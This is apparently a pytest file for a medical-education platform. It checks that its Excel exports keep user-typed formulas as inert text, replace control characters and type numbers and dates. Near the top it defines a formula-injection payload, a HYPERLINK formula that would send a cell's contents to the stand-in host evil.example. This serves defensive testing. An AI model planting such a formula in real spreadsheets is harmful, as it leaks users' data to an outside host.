"""Every Excel export writes text as text and survives whatever is stored: formulas typed by users stay
inert text, control characters stored before the boundary check are replaced, numbers and dates typed."""

from __future__ import annotations

import io
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
from cme_platform.audit.context import Actor, acting_as
from cme_platform.audit.service import record
from cme_platform.orgs.tables import Department
from cme_platform.personnel.tables import Person
from cme_platform.tenancy.scope import scope
from cme_platform.xlsx import MAX_TEXT, Workbook, workbook_bytes
from openpyxl.cell.cell import Cell
from test_credits_entry import API, free, open_grant, standard
from test_credits_entry import zj as zj  # the fixture, shared
from test_personnel_import import api, import_file, person_row, workbook

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'
"""What a learner typed as an activity name: a live formula if written as one."""


def _inert_text(cell: Cell, value: str) -> None:
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", value, True)


def _sheet(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content)).active


# -- the shared writer ---------------------------------------------------------------------------------


def test_the_writer_types_every_cell(tmp_path: Path) -> None:
    values = [
        "=1+2",
        "+86 139",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "a\x07b\x00c\x85",
        "x" * (MAX_TEXT + 10),
        "普通文本",
        3,
        2.5,
        date(2026, 1, 31),
        datetime(2026, 1, 31, 8, 30),
        None,
        True,
        float("nan"),
        2**60,
    ]

    def fill(book: Workbook) -> None:
        book.sheet("表").row(0, values)

    cells = list(_sheet(workbook_bytes(fill))[1])
    for cell, value in zip(cells[:5], values[:5], strict=True):
        _inert_text(cell, value)
    _inert_text(cells[5], "_x000D_x")  # XlsxWriter escapes CR; Excel reads it back, openpyxl does not
    assert (cells[6].data_type, cells[6].value) == ("s", "a\ufffdb\ufffdc\ufffd")
    assert cells[7].value == "x" * MAX_TEXT
    assert (cells[8].data_type, cells[8].value, cells[8].quotePrefix) == ("s", "普通文本", False)
    assert [(c.data_type, c.value) for c in cells[9:11]] == [("n", 3), ("n", 2.5)]
    assert (cells[11].value, cells[11].number_format) == (datetime(2026, 1, 31), "yyyy-mm-dd")
    assert cells[12].value == datetime(2026, 1, 31, 8, 30)
    assert cells[13].value is None and cells[14].value is True
    assert [(c.data_type, c.value) for c in cells[15:]] == [("s", "nan"), ("s", str(2**60))]

    path = tmp_path / "large.xlsx"  # the constant-memory mode of the large exports
    book = Workbook(path, constant_memory=True)
    book.sheet("表").row(0, ["=1+2", "a\x1bb"])
    book.close()
    cells = list(openpyxl.load_workbook(path).active[1])
    _inert_text(cells[0], "=1+2")
    assert cells[1].value == "a\ufffdb"


# -- the exports -----------------------------------------------------------------------------------


async def test_audit_export_survives_a_control_character_already_logged(cme_client, world, login):
    probe = Actor(kind="anonymous", name="probe\x07user", ip="10.0.0.9")
    with scope(world.tenant), acting_as(probe):  # what a failed sign-in as "probe\x07user" stored
        await record(
            "auth.login_failed",
            object_type="account",
            summary="登录失败（密码错误）：probe\x07user",
            after={"reason": "密码错误", "username": "probe\x07user"},
        )
    await login(cme_client, world.tenant, "commission")
    r = await cme_client.get("/t/alpha/api/audit/events/export", params={"action": "auth.login_failed"})
    assert r.status_code == 200, r.text
    rows = list(_sheet(r.content).iter_rows(min_row=2))
    assert len(rows) == 1
    row = rows[0]
    assert row[3].value == "probe\ufffduser" and row[9].value == "登录失败（密码错误）：probe\ufffduser"
    assert "probe\\u0007user" in row[11].value  # JSON escapes it
    assert row[0].data_type == "n" and isinstance(row[1].value, datetime)


async def test_credits_export_writes_a_typed_formula_as_text(cme_app, cme_client, zj, login):
    await open_grant(zj.w)
    one = standard(cme_app, zj.w, "zj-01")
    await login(cme_client, zj.w.tenant, "learner")
    body = {**free(one.category, one.subcategory, credits="1.5", hours="4.5"), "activity_name": LEAK}
    body["note"] = "第一行\r\n第二行\t完"  # line breaks and tabs are text, not refused
    created = await cme_client.post(f"{API}/credits", json=body)
    assert created.status_code == 201, created.text
    r = await cme_client.get(f"{API}/credits/export")
    assert r.status_code == 200
    row = _sheet(r.content)[2]
    _inert_text(row[2], LEAK)
    assert isinstance(row[0].value, datetime) and (row[9].data_type, row[9].value) == ("n", 1.5)


async def test_personnel_export_writes_stored_text_as_text(cme_client, world, login, tmp_path):
    await import_file(world, tmp_path, workbook([person_row(1, "AI1")]))
    with scope(world.tenant):
        await Person.update({Person.name: LEAK}).where(Person.name == "测试1")
        await Department.update({Department.name: "内\x07科"}).where(Department.id == world.department_id)
    await login(cme_client, world.tenant, "commission")
    r = await cme_client.get(api(world, "/export"))
    assert r.status_code == 200, r.text
    row = _sheet(r.content)[2]
    _inert_text(row[1], LEAK)
    assert row[9].value == "内\ufffd科"
    assert isinstance(row[5].value, datetime), "the birth date is a date"
